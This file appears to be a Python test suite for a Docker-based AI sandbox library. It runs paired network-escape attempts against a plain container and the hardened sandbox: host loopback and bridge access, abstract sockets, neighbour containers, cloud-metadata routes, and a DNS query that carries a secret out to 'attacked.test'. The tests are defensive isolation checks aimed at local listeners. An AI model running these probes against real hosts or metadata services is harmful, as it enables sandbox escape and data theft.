"""Every way off the machine, and to what is on it. Nothing here leaves this host."""

from __future__ import annotations

import errno
import socket
import time

import pytest
from pydantic import ValidationError

from pydantic_ai_sandbox import DockerSandbox
from tests.attacks.lab import Lab
from tests.attacks.registry import DEFAULT, Family

family = Family("network")

CONNECT = "socket.create_connection(({address!r}, {port}), 3)"

NO_WAY = {errno.ENETUNREACH, errno.ECONNREFUSED}


def _gateway(lab: Lab) -> str:
    lab.plain.container.reload()
    return lab.plain.container.attrs["NetworkSettings"]["Gateway"]


async def _connects(lab: Lab, address: str, port: int) -> bool:
    tried = await lab.attempt(CONNECT.format(address=address, port=port))
    assert tried.error in {errno.ENETUNREACH, None}
    return tried.error is None


def _service_naive(lab: Lab) -> bool:
    with lab.listening(_gateway(lab)) as server:
        return lab.plain.attempt(CONNECT.format(address=_gateway(lab), port=server.getsockname()[1])).error is None


async def _service_ours(lab: Lab) -> bool:
    with lab.listening(_gateway(lab)) as server:
        return await _connects(lab, _gateway(lab), server.getsockname()[1])


family.pair(
    "reaches a service of the host by the bridge", against=DEFAULT, naive=_service_naive, ours=_service_ours, quick=True
)


def _loopback_naive(lab: Lab) -> bool:
    plain = lab.another_plain(network_mode="host")
    with lab.listening("127.0.0.1") as server:
        return plain.attempt(CONNECT.format(address="127.0.0.1", port=server.getsockname()[1])).error is None


async def _loopback_ours(lab: Lab) -> bool:
    for network in ("host", "container:other", "default"):
        with pytest.raises(ValidationError):
            DockerSandbox(network=network)  # pyright: ignore[reportArgumentType]
    with lab.listening("127.0.0.1") as server:
        tried = await lab.attempt(CONNECT.format(address="127.0.0.1", port=server.getsockname()[1]))
    assert tried.error in {errno.ECONNREFUSED, None}
    return tried.error is None


family.pair(
    "reaches the host's loopback", against="`docker run --network host`", naive=_loopback_naive, ours=_loopback_ours
)

ABSTRACT = "s = socket.socket(socket.AF_UNIX); s.connect('\\0{name}')"


def _abstract_naive(lab: Lab) -> bool:
    plain = lab.another_plain(network_mode="host")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\0attacked")
        server.listen()
        return plain.attempt(ABSTRACT.format(name="attacked"), user="10001").error is None


async def _abstract_ours(lab: Lab) -> bool:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\0attacked")
        server.listen()
        tried = await lab.attempt(ABSTRACT.format(name="attacked"))
    assert tried.error in {errno.ECONNREFUSED, None}
    return tried.error is None


family.pair(
    "reaches an abstract socket of the host",
    against="`docker run --network host`",
    naive=_abstract_naive,
    ours=_abstract_ours,
)

SERVE = "import socket, time; s = socket.create_server(('0.0.0.0', 7777)); print(1, flush=True); time.sleep(60)"


def _neighbour_naive(lab: Lab) -> bool:
    neighbour = lab.another_plain(["python3", "-c", SERVE])
    next(neighbour.container.logs(stream=True, follow=True))
    neighbour.container.reload()
    address = neighbour.container.attrs["NetworkSettings"]["Networks"]["bridge"]["IPAddress"]
    return lab.plain.attempt(CONNECT.format(address=address, port=7777)).error is None


async def _neighbour_ours(lab: Lab) -> bool:
    neighbour = await lab.another_sandbox()
    await neighbour.start_job(["python3", "-c", SERVE])
    own = await neighbour.run("sleep 0.3; cat /proc/net/fib_trie | grep -o '[0-9.]*$' | sort -u", shell=True)
    addresses = {*own.stdout.split(), _gateway(lab)} - {""}
    found = [await lab.attempt(CONNECT.format(address=address, port=7777)) for address in addresses]
    assert {tried.error for tried in found} <= {None, *NO_WAY, errno.EACCES, errno.EINVAL}
    return any(tried.error is None for tried in found)


family.pair("reaches a neighbour", against=DEFAULT, naive=_neighbour_naive, ours=_neighbour_ours)

ROUTE = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(({address!r}, 80))"
"""Whether there is a way to an address, without a packet sent there."""

for _name, _address in (
    ("has a way to the metadata of the cloud", "169.254.169.254"),
    ("has a way to the rest of the world", "192.0.2.1"),
    ("has a way to private networks", "10.0.0.1"),
):
    family.probe(_name, ROUTE.format(address=_address), {errno.ENETUNREACH}, quick="metadata" in _name)

ASK = "import socket\ntry: socket.getaddrinfo('{secret}.attacked.test', 80)\nexcept OSError: pass"


def _asked(server: socket.socket, secret: str, within: float) -> bool:
    """Whether a question with the secret arrives; the other side may still ask about its own."""
    give_up = time.monotonic() + within
    while (left := give_up - time.monotonic()) > 0:
        server.settimeout(left)
        try:
            if secret.encode() in server.recv(1000):
                return True
        except TimeoutError:
            break
    return False


def _dns_naive(lab: Lab) -> bool:
    gateway = _gateway(lab)
    plain = lab.another_plain(dns=[gateway], dns_opt=["timeout:1", "attempts:1"])
    with lab.listening(gateway, 53, socket.SOCK_DGRAM) as server:
        plain.start(["python3", "-c", ASK.format(secret="naive-secret")])
        return _asked(server, "naive-secret", within=10)


async def _dns_ours(lab: Lab) -> bool:
    with lab.listening(_gateway(lab), 53, socket.SOCK_DGRAM) as server:
        await lab.sandbox.run(["python3", "-c", ASK.format(secret="our-secret")], timeout=20)
        return _asked(server, "our-secret", within=0.3)


family.pair("carries a secret out in a question for a name", against=DEFAULT, naive=_dns_naive, ours=_dns_ours)

LIST = "assert True\nif {name for _, name in socket.if_nameindex()} == {'lo'}: raise OSError(100, 'loopback alone')"

family.probe("learns the network's layout", LIST, {errno.ENETDOWN})


def _published_naive(lab: Lab) -> bool:
    plain = lab.another_plain(["python3", "-c", SERVE], ports={"7777/tcp": None})
    next(plain.container.logs(stream=True, follow=True))
    plain.container.reload()
    bindings = plain.container.attrs["NetworkSettings"]["Ports"]["7777/tcp"]
    return any(binding["HostIp"] == "0.0.0.0" for binding in bindings)  # noqa: S104


async def _published_ours(lab: Lab) -> bool:
    image = lab.image("exposing", "EXPOSE 7777", "EXPOSE 22")
    sandbox = await lab.another_sandbox(image=image)
    assert sandbox.ref is not None
    found = lab.plains.client.api.inspect_container(sandbox.ref.id)
    return bool(found["NetworkSettings"]["Ports"]) or found["HostConfig"]["PublishAllPorts"]


family.pair(
    "has a port opened on every address of the host",
    against="`docker run -p 7777`",
    naive=_published_naive,
    ours=_published_ours,
)
